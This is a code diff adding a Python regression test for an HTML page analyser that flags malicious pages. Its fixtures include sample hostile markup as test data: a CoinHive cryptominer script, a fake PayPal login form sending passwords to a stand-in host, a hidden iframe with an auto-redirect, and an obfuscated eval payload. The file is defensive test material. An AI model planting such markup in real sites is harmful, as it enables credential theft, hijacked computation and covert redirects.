@@ -0,0 +1,88 @@
+"""
+Golden test for analyze_html: a seeded corpus of synthetic pages plus a few
+hand-written ones, checked against stored findings and scores.
+
+After an intended change to the rules or scoring, rewrite the expectations
+with `python tests/test_analysis_regression.py` and review the diff.
+"""
+
+import json
+import os
+import sys
+
+import pytest
+
+if __name__ == "__main__":
+    sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
+
+from bench.generators import synthetic_html
+from services import html_rules
+from services.blocklist import Blocklist
+from services.Page_Source_Analyser import analyze_html
+
+EXPECTED_PATH = os.path.join(os.path.dirname(os.path.abspath(__file__)), "data", "analysis_expected.json")
+
+HAND_WRITTEN = {
+    "empty": ("", "https://example.com/"),
+    "plain": ("<html><head><title>Docs</title></head><body><p>Hello</p><a href='/about'>About</a></body></html>",
+              "https://docs.example.org/"),
+    "miner": ("<script src='https://coinhive.com/lib/coinhive.min.js'></script>"
+              "<script>var m = new CoinHive.Anonymous('k'); WebAssembly.instantiate(buf); cryptonight();</script>",
+              "http://free-movies.example.tk/"),
+    "phishing": ("<title>PayPal - Log in</title><p>Verify your PayPal account</p>"
+                 "<form action='http://collect.example.xyz/p' method='post'><input type='password' name='pw'></form>",
+                 "http://paypal-verify-8812.xyz/login"),
+    "hidden_iframe": ("<iframe src='http://203.0.113.9/x' width='0' height='0' style='visibility:hidden'></iframe>"
+                      "<meta http-equiv='refresh' content='0;url=http://203.0.113.9/'>",
+                      "https://news.example.com/"),
+    "obfuscated": ("<script>eval(atob('" + "ZXZhbCgndGVzdCcp" * 8 + "')); document.write(unescape('%3C'));</script>",
+                   "https://203.0.113.5/index.php"),
+    "malformed": ("<html><body><div><script>eval('x')<p>unclosed <a href=http://10.0.0.1/a>x<form><input "
+                  "type=password></body>", "http://example.com/"),
+}
+
+
+def corpus():
+    """{case: (html, url)}, the same every run."""
+    cases = dict(HAND_WRITTEN)
+    urls = ["https://shop.example.com/", "http://login-secure.example.xyz/", "https://198.51.100.7/a"]
+    for seed in range(12):
+        cases[f"synthetic-{seed}"] = (
+            synthetic_html(scripts=seed % 5 * 4, inline_scripts=seed % 4, inline_size=500, anchors=10 + seed * 5,
+                           forms=seed % 3, iframes=seed % 2, paragraphs=5, suspicious=seed % 3 != 0, seed=seed),
+            urls[seed % len(urls)],
+        )
+    return cases
+
+
+def summarize(analysis):
+    return {k: analysis[k] for k in ("verdict", "score", "score_factors", "findings", "page_metrics")}
+
+
+def _analyze_all():
+    return {case: summarize(analyze_html(html, url)) for case, (html, url) in corpus().items()}
+
+
+@pytest.fixture
+def no_blocklist(monkeypatch):
+    # findings must not depend on whatever feeds happen to be installed locally
+    empty = Blocklist()
+    monkeypatch.setattr(html_rules, "get_blocklist", lambda: empty)
+
+
+def test_analysis_matches_stored_expectations(no_blocklist):
+    with open(EXPECTED_PATH) as f:
+        expected = json.load(f)
+    actual = json.loads(json.dumps(_analyze_all()))  # same types as the stored JSON
+    assert sorted(actual) == sorted(expected)
+    for case in expected:
+        assert actual[case] == expected[case], case
+
+
+if __name__ == "__main__":
+    html_rules.get_blocklist = Blocklist
+    os.makedirs(os.path.dirname(EXPECTED_PATH), exist_ok=True)
+    with open(EXPECTED_PATH, "w") as f:
+        json.dump(_analyze_all(), f, indent=1, sort_keys=True)
+        f.write("\n")
+    print(f"Wrote {EXPECTED_PATH}")